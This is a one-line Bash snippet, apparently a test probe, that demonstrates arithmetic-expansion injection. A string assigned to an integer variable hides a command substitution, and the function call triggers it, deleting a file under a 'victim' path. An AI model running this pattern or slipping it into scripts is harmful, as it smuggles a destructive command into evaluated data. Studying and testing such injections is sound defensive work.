f() { local -i n; x='a[$(rm -f /srv/rt/s/d1/home/victim/keep-E07)]'; n=x; }; f
